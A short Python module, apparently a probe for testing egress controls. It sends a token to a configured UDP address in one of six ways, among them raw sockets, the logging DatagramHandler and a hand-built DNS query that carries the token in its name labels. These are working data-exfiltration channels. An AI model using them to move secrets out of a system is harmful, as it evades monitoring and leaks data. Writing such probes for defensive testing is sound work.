"""Send a datagram, which needs no connection; by one a name server is asked too."""

import logging.handlers
import socket

import _socket
import aim

DATA = aim.TOKEN.encode()
UDP = (socket.AF_INET, socket.SOCK_DGRAM)


def connected():
    sender = socket.socket(*UDP)
    sender.connect(aim.UDP)
    sender.send(DATA)


def question():
    """Return a question for the address of a name that is the token."""
    labels = [DATA[at : at + 60] for at in range(0, len(DATA), 60)] + [b"example"]
    name = b"".join(bytes([len(label)]) + label for label in labels)
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1"


def logged():
    handler = logging.handlers.DatagramHandler(*aim.UDP)
    handler.send(DATA)


WAYS = {
    "sendto": lambda: socket.socket(*UDP).sendto(DATA, aim.UDP),
    "sendmsg": lambda: socket.socket(*UDP).sendmsg([DATA], [], 0, aim.UDP),
    "connected": connected,
    "_socket": lambda: _socket.socket(*UDP).sendto(DATA, aim.UDP),
    "question to a name server": lambda: socket.socket(*UDP).sendto(question(), aim.UDP),
    "logging": logged,
}
WAYS[aim.VARIANT]()
